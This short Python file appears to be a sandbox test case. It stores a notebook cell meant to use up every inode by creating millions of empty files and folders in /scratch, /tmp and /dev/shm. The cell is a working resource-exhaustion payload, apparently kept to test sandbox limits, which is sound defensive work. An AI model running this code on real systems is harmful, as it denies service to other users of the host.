"""Empty files, folders and links until there are no more inodes."""

EXERCISE = "start-greet"
CELL = r"""
import os
for place in ("/scratch", "/tmp", "/dev/shm"):
    try:
        for number in range(10**7):
            os.mkdir(f"{place}/{number}") if number % 2 else open(f"{place}/{number}", "w").close()
    except OSError:
        pass
"""
